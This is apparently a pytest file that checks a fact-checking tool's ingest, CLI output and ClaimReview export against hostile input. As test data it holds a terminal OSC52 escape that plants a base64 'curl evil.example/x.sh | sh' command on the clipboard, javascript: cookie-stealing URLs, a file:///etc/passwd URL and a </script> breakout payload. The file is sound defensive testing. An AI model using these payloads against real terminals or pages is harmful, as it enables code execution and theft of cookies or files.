"""Hostile input (issue 9, seen 6-8): a bad file refuses the whole batch before the first write, and
nothing printed or exported executes what it read (terminal escapes, Rich markup, script, urls)."""

from __future__ import annotations

import json
import os
import re
import sqlite3
from html.parser import HTMLParser
from pathlib import Path

import pytest

from test_ingest import ARTICLE, assert_refused, dump, run, stored  # noqa: F401 (stored: a fixture)

OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUveC5zaCB8IHNo\x07"  # "curl evil.example/x.sh | sh"
GOOD = {"text": "Police said 14 people were arrested on Saturday in Lyon.", "source": "Wire A"}


def jsonl(path: Path, lines: list[str]) -> Path:
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def good_lines(n: int = 3) -> list[str]:
    return [json.dumps({**GOOD, "text": f"{GOOD['text']} Line {i} adds {i} more."}) for i in range(n)]


# --- 6: every file of a batch is checked before the first write -----------------------------------

def test_lone_surrogate_on_line_4_stores_nothing_of_the_batch(stored, tmp_path):
    before = dump(stored)
    feed = jsonl(tmp_path / "feed.jsonl", good_lines() + ['{"text": "Bad \\udc80 text.", "source": "W"}'])
    result = run("ingest", str(feed), "--no-match")
    assert_refused(result, names=f"{feed}:4", stored_before=before, db_path=stored, says="surrogate")


def test_lone_surrogate_in_a_claims_file_stores_nothing(stored, tmp_path):
    before = dump(stored)
    feed = jsonl(tmp_path / "claims.jsonl", good_lines(2) + ['{"text": "Fine.", "source": "\\ud800"}'])
    result = run("ingest", "--claims", str(feed), "--no-match")
    assert_refused(result, names=f"{feed}:3", stored_before=before, db_path=stored, says="surrogate")


@pytest.mark.skipif(os.name == "nt", reason="POSIX file names are bytes")
def test_file_name_that_is_not_utf8_refuses_the_directory(stored, tmp_path):
    before = dump(stored)
    folder = tmp_path / "batch"
    folder.mkdir()
    (folder / "a.txt").write_text("The mayor said the bridge will reopen on June 1 after repairs.")
    try:
        with open(os.path.join(os.fsencode(folder), b"caf\xe9.txt"), "wb") as handle:
            handle.write(b"The port said 300 ships docked in May, up from 250 a year earlier.")
    except OSError:
        pytest.skip("this file system refuses non-UTF-8 names")
    result = run("ingest", str(folder), "--source", "X", "--no-match")
    assert_refused(result, names="caf\\udce9.txt", stored_before=before, db_path=stored, says="not valid UTF-8")


def test_json_nested_100k_deep_is_one_line_not_a_traceback(stored, tmp_path):
    before = dump(stored)
    deep = '{"text": "x", "meta": ' + "[" * 100_000 + "]" * 100_000 + "}"
    feed = jsonl(tmp_path / "deep.jsonl", good_lines(2) + [deep])
    result = run("ingest", str(feed), "--no-match")
    assert_refused(result, names=f"{feed}:3", stored_before=before, db_path=stored, says="nested too deeply")


def test_a_number_of_5000_digits_is_one_line_not_a_traceback(stored, tmp_path):
    before = dump(stored)
    feed = jsonl(tmp_path / "big.jsonl", good_lines(2) + ['{"text": "x", "n": ' + "9" * 5000 + "}"])
    result = run("ingest", str(feed), "--no-match")
    assert_refused(result, names=f"{feed}:3", stored_before=before, db_path=stored, says="4300 digits")


@pytest.mark.parametrize("url", ["javascript:alert(document.cookie)", "data:text/html,<script>x</script>",
                                 "file:///etc/passwd", "https://ok.example/a b"])
def test_non_web_urls_are_refused_at_ingest(stored, tmp_path, url):
    before = dump(stored)
    article = tmp_path / "a.txt"
    article.write_text("The mayor said the bridge will reopen on June 1 after repairs.")
    result = run("ingest", str(article), "--source", "X", "--url", url, "--no-match")
    assert_refused(result, names="a.txt", stored_before=before, db_path=stored, says="not an http(s) url")
    feed = jsonl(tmp_path / "feed.jsonl", good_lines(2) + [json.dumps({**GOOD, "url": url})])
    result = run("ingest", str(feed), "--no-match")
    assert_refused(result, names=f"{feed}:3", stored_before=before, db_path=stored, says="not an http(s) url")
    claims = jsonl(tmp_path / "claims.jsonl", [json.dumps({**GOOD, "url": url})])
    result = run("ingest", "--claims", str(claims), "--no-match")
    assert_refused(result, names=f"{claims}:1", stored_before=before, db_path=stored, says="not an http(s) url")


def test_controls_are_removed_at_ingest_with_a_notice_and_spans_stay_exact(isolated_database, tmp_path):
    article = tmp_path / "esc.txt"
    article.write_text(f"The port said 300 ships{OSC52} docked in May. The mayor said\x9b the bridge "
                       "will reopen on June 1.\n\nUnions said 1,200 workers struck on Monday.\x0c\n")
    feed = jsonl(tmp_path / "feed.jsonl", [json.dumps({**GOOD, "text": "Police\x00 said 14 people\x1b[2J were held.",
                                                       "title": "Ar\x00rests"})])
    result = run("ingest", str(article), str(feed), "--source", "X", "--no-match")
    assert result.exit_code == 0, result.output
    assert f"{article}: removed 4 control characters" in result.output
    assert f"{feed}:1: removed 3 control characters" in result.output
    conn = sqlite3.connect(isolated_database)
    texts = [text for (text,) in conn.execute("SELECT text || coalesce(title, '') FROM articles")]
    assert len(texts) == 2 and not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", "".join(texts))
    assert "ships]52;c;Y3Vy" in texts[0]  # only the control characters go: nothing else is rewritten
    spans = conn.execute(
        "SELECT a.text, span_start, span_end, c.text FROM claims c JOIN articles a ON a.id = article_id")
    for text, start, end, claim in spans:
        assert text[start:end] == claim


# --- 7: nothing the CLI prints executes -----------------------------------------------------------

@pytest.fixture
def hostile(isolated_database, tmp_path):
    """A claims.db whose sources, titles, claims and notes carry escapes and Rich markup."""
    feed = jsonl(tmp_path / "hostile.jsonl", [
        json.dumps({"text": "The port said 300 ships docked in May.", "source": "[/]", "title": "[bold]x"}),
        json.dumps({"text": "The mayor said the bridge will reopen on June 1.",
                    "source": "[link=https://evil.example]Reuters[/link]", "title": "T"}),
    ])
    assert run("ingest", str(feed), "--no-match").exit_code == 0
    conn = sqlite3.connect(isolated_database)
    with conn:  # text stored by an older version, before ingest cleaned it
        conn.execute("UPDATE claims SET text = text || ? WHERE id = 1", [OSC52])
    conn.close()
    result = run("mark", "1", "disputed", "--note", f"see {OSC52} and \x9b31m red")
    assert result.exit_code == 0, result.output
    return isolated_database


@pytest.mark.parametrize("args", [["history", "1"], ["history", "1", "--json"], ["articles"],
                                  ["articles", "--json"], ["claims"], ["claims", "--json"], ["stats"],
                                  ["stats", "--json"], ["stats", "--reviewers"]])
def test_cli_output_shows_escapes_and_markup_as_text(hostile, args):
    result = run(*args)
    assert result.exit_code == 0, result.output
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", result.output), repr(result.output)
    if "--json" in args:
        json.loads(result.output)  # escapes shown as \uXXXX keep JSON valid
    if args[0] in ("articles", "stats") and "--json" not in args:
        assert "[/]" in result.output and "[link=https://evil.exam" in result.output


def test_history_shows_the_osc52_note_as_visible_text(hostile):
    result = run("history", "1")
    assert "\\u001b]52;c;Y3Vy" in result.output and "\\u009b31m" in result.output


def test_error_naming_a_hostile_file_is_printable(stored, tmp_path):
    bad = tmp_path / "x\x1b]52;c;QQ==\x07.txt"
    bad.write_bytes(b"")
    result = run("ingest", str(bad), "--source", "X", "--no-match")
    assert result.exit_code != 0
    assert "\x1b" not in result.output and "x\\u001b]52" in result.output


def test_every_cli_line_goes_through_the_safe_echo():
    """One choke point: a new command that calls click.echo directly would print stored text raw."""
    cli = Path(__file__).parents[1] / "workbench" / "cli"
    raw = [f"{path.name}:{number}" for path in cli.glob("*.py") if path.name != "options.py"
           for number, line in enumerate(path.read_text().splitlines(), 1)
           if "click.echo(" in line or re.search(r"\.add_row\((?!\*cells\()", line)]
    assert raw == []


# --- 8: ClaimReview stays inside its <script> block; only http(s) urls --------------------------

BREAKOUT = "Minister said </script><script>alert(document.cookie)</script> & <!-- more"


class ScriptReader(HTMLParser):
    """What a browser would see: the tags it opens and the data of each script block."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.scripts: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)

    def handle_data(self, data):
        if self.lasttag == "script":
            self.scripts.append(data)


@pytest.fixture
def stored_earlier(db):
    """A claim with script in its text, and a javascript: url stored by a version that let it in."""
    from workbench.verdicts import record_verdict

    source = db["sources"].insert({"name": "Wire", "kind": "wire"}).last_pk
    article = db["articles"].insert({"source_id": source, "title": "T", "url": "javascript:alert(1)",
                                     "published": "2025-04-02", "text": BREAKOUT, "content_hash": "h",
                                     "origin": "test", "ingested_at": "2025-04-04T00:00:00+00:00"}).last_pk
    claim = db["claims"].insert({"article_id": article, "source_id": source, "position": 0, "span_start": 0,
                                 "span_end": len(BREAKOUT), "text": BREAKOUT, "claimant": "Minister",
                                 "worthiness": 0.9, "features": "{}"}).last_pk
    record_verdict(db, claim, "disputed", "alice")
    return db, claim


def test_claimreview_cannot_break_out_of_its_script_block(stored_earlier):
    from workbench.export import render_export

    db, claim = stored_earlier
    text, _ = render_export(db, "claimreview", publisher="Checks", publisher_url="https://checks.example")
    assert "<" not in text and ">" not in text and "&" not in text
    page = f'<html><head><script type="application/ld+json">{text}</script></head><body></body></html>'
    reader = ScriptReader()
    reader.feed(page)
    assert reader.tags == ["html", "head", "script", "body"]  # no second <script>
    (review,) = json.loads(reader.scripts[0])
    assert review["claimReviewed"] == BREAKOUT  # the same text for any JSON reader


def test_javascript_url_is_left_out_and_fails_the_preflight(stored_earlier):
    from workbench.export import render_export

    db, claim = stored_earlier
    warnings: list[str] = []
    text, _ = render_export(db, "claimreview", publisher="Checks", publisher_url="javascript:void(0)//",
                            warn=warnings.append)
    assert "javascript" not in text.lower()
    (review,) = json.loads(text)
    assert "appearance" not in review["itemReviewed"] and "url" not in review["author"] and "url" not in review
    (line,) = warnings
    assert line.startswith(f"claim {claim}: the article url 'javascript:alert(1)' is not an http(s) url; left out")
    assert "the publisher url 'javascript:void(0)//' is not an http(s) url" in line


@pytest.mark.parametrize("fmt", ["html", "markdown"])
def test_reports_never_link_a_stored_javascript_url(stored_earlier, fmt):
    from workbench.export import render_export

    db, _ = stored_earlier
    text, _ = render_export(db, fmt)
    assert "javascript:alert(1)" in text  # shown as text ...
    assert 'href="javascript' not in text.lower() and "(<javascript" not in text.lower()  # ... never linked


def test_pasted_text_is_cleaned_like_a_file(db):
    """The desk's paste dialog stores through ingest_text: the same cleaning, the same notice."""
    from workbench.ingest import ingest_text

    result = ingest_text(db, f"The port said 300 ships{OSC52} docked in May.", source="Desk")
    assert result.notices and result.notices[0].startswith("removed 2 control characters")
    (text,) = db.execute("SELECT text FROM articles").fetchone()
    assert text == "The port said 300 ships]52;c;Y3VybCBldmlsLmV4YW1wbGUveC5zaCB8IHNo docked in May."


def test_tsv_claims_with_a_javascript_url_store_nothing(stored, tmp_path):
    before = dump(stored)
    claims = tmp_path / "claims.tsv"
    claims.write_text("id\ttext\tsource\turl\n1\tPolice said 14 were held.\tW\thttps://ok.example/1\n"
                      "2\tThe mayor said 3.\tW\tjavascript:alert(1)\n", encoding="utf-8")
    result = run("ingest", "--claims", str(claims), "--no-match")
    assert_refused(result, names=f"{claims}:3", stored_before=before, db_path=stored, says="not an http(s) url")


@pytest.mark.skipif(os.name == "nt", reason="POSIX file names may hold escapes")
def test_a_skipped_file_named_with_escapes_is_listed_as_visible_text(stored, tmp_path):
    """A directory lists what it leaves out by name; a name holding a terminal escape is shown, not run."""
    folder = tmp_path / "inbox"
    folder.mkdir()
    (folder / "ok.txt").write_text("The mayor said the bridge will reopen on June 1 after repairs.")
    (folder / f"notes{OSC52}.json").write_text("{}")
    result = run("ingest", str(folder), "--source", "X", "--no-match")
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.output and "\x07" not in result.output
    assert "notes\\u001b]52;c;" in result.output and "skipped" in result.output
